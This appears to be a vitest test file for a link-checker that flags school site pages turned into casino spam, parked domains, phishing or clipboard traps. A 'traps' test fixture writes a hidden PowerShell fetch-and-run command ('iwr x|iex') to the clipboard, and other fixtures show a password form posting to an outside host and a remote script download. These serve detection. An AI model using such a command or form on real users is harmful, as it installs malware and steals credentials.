import { describe, expect, it } from "vitest";
import { comparePages } from "./compare-pages.ts";
import { listParkedReasons } from "./find-parked.ts";
import { listPhishingReasons, listTrapReasons, listUnfitReasons } from "./find-unfit.ts";
import { judgeLook } from "./judge-look.ts";
import type { AnsweredLook } from "./look.ts";
import type { PageFacts } from "./page-facts.ts";
import { toPagePicture } from "./page-picture.ts";
import { findLeftoverSign, findRobotWallWords } from "./page-signs.ts";
import { readPage } from "./read-page.ts";
import { sumOf } from "./reason.ts";

const address = "https://www.path-finder.org/guide";
const page = (title: string, body: string) =>
  readPage(`<title>${title}</title><h1>${title}</h1>${body}`, address);
const weightOf = (title: string, body: string) => sumOf(listUnfitReasons(page(title, body), "", true));

describe("pages about a delicate matter", () => {
  const offers =
    "<p>Sports betting, online casino, free spins and casino bonus codes with no deposit bonus.</p>";

  it("words of a school do not make up for a trader's, so that a person is asked", () => {
    const school = "<p>Students, teachers, lessons, courses, exams, homework and pupils.</p>".repeat(2);
    expect(weightOf("Maths for pupils", `${school}<p>Casino bonus.</p>`)).toBe(0);
    expect(weightOf("Maths for pupils", offers + school)).toBe(2);
  });

  it("a lesson on names for sale is no name for sale", () => {
    const lesson =
      "<p>Pupils learn what a domain name is, who sells it and when it expires. A lesson for teachers.</p>";
    const reasons = (body: string) => sumOf(listParkedReasons(page("How it works", body), address, true));
    expect(reasons(lesson)).toBeLessThan(2);
    expect(reasons("<p>This domain name is for sale. Buy it now.</p>")).toBeGreaterThanOrEqual(3);
    expect(
      reasons("<p>path-finder.org is for sale to teachers, schools and pupils.</p>"),
    ).toBeGreaterThanOrEqual(3);
  });
});

describe("a page with its own menu around it", () => {
  const menu = '<a href="/">Path Finder</a> <a href="/units">Units</a> <a href="/teachers">Teachers</a>';
  const title = "Online casino bonus: who wins?";
  const lesson = `${menu}<p>How a casino bonus works: students and teachers look at free spins, betting sites and odds.</p>`;
  const judge = (now: PageFacts, at = address) => {
    const before = toPagePicture(at, at, page("Units", `${menu}<p>Lessons for students.</p>`), "2026-11-01");
    const look: AnsweredLook = {
      kind: "answer",
      status: 200,
      contentType: "text/html",
      isChallenge: false,
      bodyBytes: 900,
      page: now,
      isSlow: false,
      finalUrl: at,
      hops: [],
      passed: [],
    };
    const promise = { url: at, name: "Path Finder", description: "Lessons.", approved: before };
    return judgeLook(look, promise, "2026-11-02").verdict;
  };

  it("may speak of what it warns of", () => {
    expect(judge(page(title, lesson))).toBe("ok");
  });

  it("has changed hands where the menu is another's", () => {
    expect(judge(page(title, lesson.replaceAll("/units", "/slots").replaceAll("/teachers", "/vip")))).toBe(
      "changed-hands",
    );
  });

  it("is asked about under a name that only schools are given, where its owner is still named", () => {
    const school = "https://writing.path-finder.ac.uk/";
    const other = lesson.replaceAll("/units", "/slots").replaceAll("/teachers", "/vip");
    const seen = (body: string) =>
      judge(readPage(`<title>${title}</title><h1>${title}</h1>${body}`, school), school);
    expect(seen(other)).toBe("looks-different");
    expect(seen(other.replace("Path Finder", ""))).toBe("changed-hands");
  });

  it("is asked about where others are linked with a trader's words, be the page as it was", () => {
    const casino =
      '<a href="https://a.example/">no deposit bonus</a> <a href="https://b.example/">casino bonus</a>';
    expect(judge(page("Units", `${menu}<p>Lessons for students.</p>${casino}`))).toBe("off-topic");
  });

  it("is asked about where it leads elsewhere, or its title only is for search engines", () => {
    const linked = `${lesson}<a href="https://casino.example/">Play</a>`;
    expect(judge(page(title, linked))).toBe("off-topic");
    expect(
      judge(
        page("Units", `${menu}<p>Lessons for students.</p><p>オンラインカジノ スロット 入金不要ボーナス</p>`),
      ),
    ).toBe("off-topic");
    expect(
      judge(readPage(`<title>${title}, free spins</title>${menu}<p>Lessons for students.</p>`, address)),
    ).toBe("off-topic");
  });
});

describe("a name of which only a part is left", () => {
  const compare = (before: string, now: string) => {
    const [old, fresh] = [before, now].map((name) =>
      readPage(
        `<title>${name}</title><footer><p>© 2026 ${name}</p><div>Contact: 1234</div></footer>`,
        address,
      ),
    );
    if (!old || !fresh) throw new Error("Two pages are compared.");
    const [then, today] = [old, fresh].map((one) => toPagePicture(address, address, one, "2026-11-01"));
    if (!then || !today) throw new Error("Two pages have two pictures.");
    const { reasons } = comparePages(then, today, fresh, { name: before, url: address });
    return reasons.map(({ text }) => text).join("; ");
  };

  it("speaks for the same people, in other letters too", () => {
    expect(compare("Colegiul Popular Zamfirescu", "CPZ Zamfirescu")).toContain('"zamfirescu", a part of its');
    expect(compare("Мактаби Рустам", "Rustam maktabi")).toContain('"maktabi", its name in other letters');
    expect(compare("Colegiul Popular Zamfirescu", "Velvet Companions")).not.toContain("its name");
  });

  it("ends where the line of the copyright does", () => {
    expect(compare("Zamfirescu", "Velvet Companions")).toContain(
      "it is by Velvet Companions and not by Zamfirescu",
    );
  });
});

describe("what a page does, whatever it says", () => {
  const form = (action: string) =>
    `<form action="${action}"><input name="id"><input type="password"></form><p>Your application.</p>`;
  const phishing = (body: string) => sumOf(listPhishingReasons(page("Apply", body), address, ""));
  const traps = (body: string) => sumOf(listTrapReasons(page("Timetable", body)));

  it("a password that is sent to strangers is asked about, and one to its own site or a known door is not", () => {
    expect(phishing(form("https://collect.example/g"))).toBe(2);
    expect(phishing(form("/login"))).toBe(0);
    expect(phishing(form("https://id.path-finder.org/login"))).toBe(0);
    expect(phishing(form("https://login.microsoftonline.com/x"))).toBe(0);
  });

  it("a command to be pasted is a trap, and one in a lesson's text is none", () => {
    expect(traps('<script>navigator.clipboard.writeText("powershell -w h -c iwr x|iex")</script>')).toBe(3);
    expect(traps("<p>Copy powershell to the clipboard.</p><script>navigator.clipboard.read()</script>")).toBe(
      0,
    );
  });

  it("a program from another site that downloads itself is asked about", () => {
    expect(traps('<a href="https://dl.example/Update.js" download>Update</a>')).toBe(2);
    expect(traps('<a href="https://dl.example/p5.js">p5.js</a><a href="/kit.exe" download>Kit</a>')).toBe(0);
  });
});

it("a host that closed an unpaid site is no wall", () => {
  const closed = page("안내", "<p>호스팅 서비스 기간이 만료되어 접속이 차단되었습니다.</p>");
  expect(findRobotWallWords(closed)).toBeUndefined();
  expect(findLeftoverSign(closed)).toBe('it says "호스팅 … 만료"');
  expect(findRobotWallWords(page("안내", "<p>접속이 차단되었습니다.</p>"))).toBe('it says "접속이 차단"');
});
